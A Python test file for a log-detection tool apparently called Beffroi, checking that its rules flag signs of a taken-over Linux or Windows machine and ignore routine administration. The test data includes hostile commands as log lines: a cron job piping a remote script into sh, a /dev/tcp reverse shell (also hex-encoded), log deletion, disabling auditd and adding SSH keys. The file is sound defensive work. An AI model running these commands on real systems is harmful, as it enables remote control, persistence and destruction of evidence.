"""Beffroi's own rules on staying, on lines and events as machines send them, through the readers: attacks are told, ordinary work is not."""

from collections.abc import Iterable
from datetime import UTC, datetime, timedelta

import orjson
import pytest

from beffroi.detect.values import micros_of
from beffroi.logs.arrival import Form
from beffroi.rules.repository import PACK, RuleSet, load
from beffroi.watching.understanding import Found, Understander
from tests.watching.watch import BRUSSELS, arrival

NIGHT = datetime(2026, 11, 28, 1, 10, tzinfo=UTC)
QUIET = {"low", "informational"}


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    return load([PACK])


def heard(pack: RuleSet, messages: Iterable[bytes], form: Form) -> list[Found]:
    """What messages mean that arrive together in the night."""
    watch = Understander(pack, BRUSSELS)
    told = list(watch.understand([(1, arrival(*messages, form=form, arrived=micros_of(NIGHT)))]).found)
    return [*told, *watch.settle(1, micros_of(NIGHT)).found]


def loud(told: Iterable[Found]) -> set[str]:
    return {each.title for each in told if each.level not in QUIET}


def syslog(minutes: float, said: str, facility: int = 10) -> bytes:
    """A line of a Linux server's, some minutes ago."""
    when = (NIGHT - timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z")
    program, _, text = said.partition(": ")
    return f"<{facility * 8 + 6}>1 {when} srv-nas {program} - - - {text}".encode()


@pytest.mark.parametrize(
    ("said", "title"),
    [
        (
            "useradd: new user: name=aide, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
            "Second master account on a Linux server",
        ),
        ("usermod: add 'anna' to group 'sudo'", "Account on a Linux server given full power"),
        ("crontab: (www-data) REPLACE (www-data)", "Service's account planned commands for itself"),
        (
            "CRON: (root) CMD (curl -s http://198.51.100.7/a.sh | sh)",
            "Planned command fetches and runs something from the internet",
        ),
        ("CRON: (root) CMD (bash -i >& /dev/tcp/198.51.100.7/44)", "Linux server carries out commands of somebody outside"),
        (
            "sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd",
            "Guard of a Linux server switched off",
        ),
        (
            "sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/wtmp",
            "Records of a Linux server removed",
        ),
        (
            "sudo: anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys",
            "Key or rule laid down for coming back to a Linux server",
        ),
        (
            "pkexec: anna: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/0]",
            "Full power taken on Linux through a hole or a detour",
        ),
        (
            'audispd: type=PATH msg=audit(1795665816.145:41): item=1 name="/etc/ld.so.preload" nametype=CREATE',
            "Foreign code made part of every program on a Linux server",
        ),
        (
            'audispd: type=SYSCALL msg=audit(1795665816.145:42): arch=c000003e syscall=59 uid=33 comm="x" exe="/dev/shm/x"',
            "Program runs from a folder for temporary files on Linux",
        ),
        (
            "audispd: type=EXECVE msg=audit(1795665816.145:43): argc=2 a0=-c a1=62617368202D69203E26202F6465762F7463702F3139382E35312E3130302E372F3434",
            "Linux server carries out commands of somebody outside",
        ),
        (
            "audispd: type=CONFIG_CHANGE msg=audit(1795665816.145:44): op=set audit_enabled=0 old=1 auid=1000 res=1",
            "Guard of a Linux server switched off",
        ),
        (
            "dnsmasq: query[A] abcd.trycloudflare.com from 192.168.10.21",
            "Machine asks for the address of a tunnel to the internet",
        ),
    ],
)  # fmt: skip
def test_a_line_of_a_server_that_is_taken_over_is_told(pack: RuleSet, said: str, title: str) -> None:
    assert loud(heard(pack, [syslog(5, said)], Form.SYSLOG)) == {title}


def test_an_ordinary_night_of_a_linux_server_and_a_technicians_morning_are_quiet(pack: RuleSet) -> None:
    sudo = "sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND="
    lines = [
        "CRON: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
        "CRON: (root) CMD ([ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi)",
        "CRON: (sauvegarde) CMD (/usr/local/bin/sauvegarde --tout > /tmp/sauvegarde.log 2>&1)",
        "crontab: (root) LIST (root)",
        "useradd: new user: name=_soins, UID=120, GID=65534, home=/nonexistent, shell=/usr/sbin/nologin, from=none",
        f"{sudo}/usr/bin/apt-get -y upgrade",
        f"{sudo}/usr/bin/systemctl restart rsyslog",
        f"{sudo}/usr/bin/systemctl status fail2ban",
        f"{sudo}/usr/bin/journalctl --vacuum-time=30d",
        f"{sudo}/usr/bin/tail -n 50 /var/log/auth.log",
        f"{sudo}/usr/bin/find /srv/residents -name '*.tmp' -delete",
        f"{sudo}/usr/bin/tar -czf /tmp/etc.tar.gz /etc",
        "systemd: Stopping auditd.service - Security Auditing Service...",
        "systemd: Stopped rsyslog.service - System Logging Service.",
        'audispd: type=PATH msg=audit(1795665816.145:41): item=0 name="/etc/ld.so.preload" nametype=UNKNOWN',
        "audispd: type=CONFIG_CHANGE msg=audit(1795665816.145:44): op=add_rule auid=4294967295 res=1",
        "dnsmasq: query[A] www.pharmacie.example from 192.168.10.21",
        "dnsmasq: query[A] relay-0a1b2c3d.net.anydesk.com from 192.168.10.21",
    ]
    assert loud(heard(pack, [syslog(60 - n, said) for n, said in enumerate(lines)], Form.SYSLOG)) == set()


def test_a_server_that_loses_its_guard_and_then_its_records_is_one_grave_finding_more(pack: RuleSet) -> None:
    sudo = "sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND="
    lines = [syslog(30, f"{sudo}/usr/sbin/ufw disable"), syslog(10, f"{sudo}/usr/bin/shred -u /var/log/auth.log")]
    told = heard(pack, lines, Form.SYSLOG)
    assert loud(told) == {
        "Guard of a Linux server switched off",
        "Records of a Linux server removed",
        "Linux server loses its guards and its records",
    }
    assert {each.level for each in told if each.title.startswith("Linux server loses")} == {"critical"}


def event(minutes: float, channel: str, number: int, provider: str, **data: object) -> bytes:
    """An event of Windows as evtx-dump writes it in JSON."""
    when = (NIGHT - timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z")
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": number,
        "Channel": channel,
        "Computer": "PC-ACCUEIL.tilleuls.example",
        "EventRecordID": 4_000 + round(minutes * 10),
        "TimeCreated": {"#attributes": {"SystemTime": when}},
    }
    return orjson.dumps({"Event": {"System": system, "EventData": data}})


DEFENDER = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")
AUDIT = ("Security", "Microsoft-Windows-Security-Auditing")
SERVICES = ("System", "Service Control Manager")


def windows(minutes: float, where: tuple[str, str], number: int, **data: object) -> bytes:
    return event(minutes, where[0], number, where[1], **data)


def test_a_machine_without_sysmon_that_is_taken_over_by_night_is_told_by_what_windows_writes_anyway(
    pack: RuleSet,
) -> None:
    told = heard(
        pack,
        [
            windows(50, DEFENDER, 5001),
            windows(45, SERVICES, 7045, ServiceName="AnyDesk Service", ImagePath='"C:\\ProgramData\\x\\a.exe" --service'),
            windows(30, SERVICES, 7040, param1="x", param2="y", param3="Désactivé", param4="WinDefend"),
            event(5, "Security", 1102, "Microsoft-Windows-Eventlog"),
        ],
        Form.WINDOWS,
    )  # fmt: skip
    assert loud(told) >= {
        "Windows Defender switched off",
        "Remote-control tool installed as a service",
        "Service that protects a machine set never to start",
        "Event log cleared",
        "Protection switched off and something installed to stay",
        "Something installed to stay, then the traces wiped",
    }


def test_a_providers_morning_on_a_windows_machine_is_quiet(pack: RuleSet) -> None:
    person = "S-1-5-21-1004336348-1177238915-682003330-1104"

    def started(minutes: float, image: str, line: str, parent: str = "C:\\Windows\\explorer.exe") -> bytes:
        names = {"NewProcessName": image, "ParentProcessName": parent, "CommandLine": line, "SubjectUserSid": person}
        return windows(minutes, AUDIT, 4688, **names)

    system = "C:\\Windows\\System32"
    told = heard(
        pack,
        [
            windows(58, AUDIT, 4624, LogonType=2, TargetUserName="m.wauthy", TargetUserSid=person, IpAddress="127.0.0.1"),
            started(57, f"{system}\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe"'),
            started(56, f"{system}\\msiexec.exe", 'msiexec.exe /i "\\\\srv-tilleuls\\installation\\soins.msi" /qn'),
            started(55, f"{system}\\rundll32.exe", 'rundll32.exe "C:\\Windows\\Installer\\MSI4A2B.tmp",zzzzInvokeManagedCustomActionOutOfProc SfxCA', f"{system}\\msiexec.exe"),
            started(54, f"{system}\\netsh.exe", 'netsh advfirewall firewall add rule name="Soins" dir=in action=allow program="C:\\Program Files\\Soins\\s.exe"'),
            started(53, f"{system}\\sc.exe", 'sc create Soins binPath= "C:\\Program Files\\Soins\\service.exe" start= auto'),
            windows(52, SERVICES, 7045, ServiceName="Soins", ImagePath="C:\\Program Files\\Soins\\service.exe"),
            windows(51, SERVICES, 7040, param1="Spouleur", param2="Démarrage automatique", param3="Désactivé", param4="Spooler"),
            windows(50, AUDIT, 4722, TargetSid="S-1-5-21-1004336348-1177238915-682003330-1181", SubjectUserSid=person),
            windows(49, AUDIT, 4724, TargetSid="S-1-5-21-1004336348-1177238915-682003330-1181", SubjectUserSid=person),
            windows(48, AUDIT, 4741, TargetUserName="PC-CUISINE$", PrivilegeList="-", SubjectUserSid=person),
            windows(47, DEFENDER, 5007, **{"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\D:\\Soins = 0x0"}),
            started(46, f"{system}\\wevtutil.exe", "wevtutil qe System /c:20 /f:text"),
            started(45, f"{system}\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -ExecutionPolicy Bypass -File C:\\Outils\\inventaire.ps1"),
            started(44, f"{system}\\svchost.exe", "svchost.exe -k netsvcs -p", f"{system}\\services.exe"),
            started(43, f"{system}\\wusa.exe", "wusa.exe D:\\MisesAJour\\maj.msu /quiet"),
        ],
        Form.WINDOWS,
    )  # fmt: skip
    assert loud(told) == set()
